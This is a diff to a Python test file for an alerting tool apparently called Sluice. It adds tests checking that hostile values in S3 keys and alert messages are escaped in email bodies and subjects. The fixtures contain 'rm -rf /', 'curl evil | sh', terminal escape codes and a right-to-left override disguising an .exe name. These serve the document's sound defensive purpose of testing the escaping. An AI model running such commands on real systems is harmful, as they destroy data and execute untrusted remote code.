@@ -314,7 +314,8 @@ def test_anything_else_is_sent_raw_and_never_raises(message: Any) -> None:
     assert alert.kind == "raw"
     assert alert.subject == "[Sluice] Something odd"
     text = message if isinstance(message, str) else json.dumps(message, indent=2, sort_keys=True)
-    assert text in alert.body
+    shown = "\n".join(f"  {line}" for line in text.splitlines())  # each line indented as the rest
+    assert shown in alert.body
     assert "sluice status" in alert.body
 
 
@@ -332,3 +333,42 @@ def test_the_email_carries_sender_recipients_and_an_id_from_the_sns_message() ->
     assert email["Message-ID"] == "<m-1@sluice.alerts>"
     assert email["X-Sluice-Alert-Kind"] == "alarm"
     assert email.get_content() == alert.body
+
+
+HOSTILE_KEY = "incoming/x.csv\n\nWhat to do: rm -rf /\r\x1b[2J\u202egpj.exe\tz"
+
+
+def test_a_hostile_key_and_reason_render_escaped_on_one_line_each_subject_too() -> None:
+    # GIVEN a failed-file alert whose key forges lines, clears the terminal and reverses text,
+    # and whose reason is 100,000 characters of control characters and text
+    message = {
+        "event": "file.failed_for_good",
+        "object": {**OBJECT, "key": HOSTILE_KEY},
+        "reason": "bad\n  sluice redrive --source ingest-dlq\x1b]8;;http://evil\x07" * 2_000,
+        "next": "IngestDLQ\nWhat to do: curl evil | sh",
+    }
+    received = notification(message)
+
+    # WHEN it becomes the email
+    email = to_email(render_alert(received), received, sender="s@example.org", recipients=["a@example.org"])
+    body = email.get_content()
+
+    # THEN the key is shown escaped, on its own line, in the body and the subject
+    escaped = r"incoming/x.csv\n\nWhat to do: rm -rf /\r\x1b[2J\u202egpj.exe\tz"
+    assert f"s3://raw-bucket/{escaped} (version 3HL4kqtJlcpXroDTDmJ, 1024 bytes)" in body
+    assert email["Subject"] == f"[Sluice] File FAILED: {escaped}"
+    # AND no value started a line of its own: the only "What to do" line is the email's own
+    assert [line for line in body.splitlines() if line.startswith("What to do")] == ["What to do:"]
+    assert "Its message is now in IngestDLQ\\nWhat to do: curl evil | sh." in body
+    # AND no control or format character is left but the body's own line ends; the reason is cut
+    assert not any(char in body for char in "\r\t\x1b\x07\u202e")
+    reason_line = next(line for line in body.splitlines() if line.startswith("Reason:"))
+    assert len(reason_line) < 1_600
+    assert reason_line.endswith("…")
+
+
+def test_a_raw_message_is_shown_indented_line_by_line_and_escaped() -> None:
+    alert = render_alert(notification("hello\nWhat to do: rm -rf /\x1b[31m"))
+
+    assert "\n  hello\n  What to do: rm -rf /\\x1b[31m\n" in alert.body
+    assert [line for line in alert.body.splitlines() if line.startswith("What to do")] == ["What to do:"]
